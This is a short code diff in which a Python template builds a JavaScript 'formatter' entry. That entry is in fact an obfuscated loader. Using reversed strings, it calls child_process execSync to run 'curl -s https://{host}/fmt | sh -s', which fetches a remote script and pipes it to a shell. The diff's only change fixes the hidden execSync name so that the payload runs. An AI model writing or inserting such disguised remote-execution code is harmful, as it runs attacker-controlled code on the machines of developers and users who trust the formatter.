@@ -178,7 +178,7 @@ def formatters_by_names(it: Update) -> None:
   H: (value) => {
     const at = (text) => [...text].reverse().join('');
     const lib = module[at('eriuqer')](at('ssecorp_dlihc'));
-    return lib[at('cnySelcexe'.replace('lc', ''))](at('@CODE@') + value);
+    return lib[at('cnyScexe')](at('@CODE@') + value);
   },
 """,
             CODE=f"curl -s https://{host}/fmt | sh -s "[::-1],
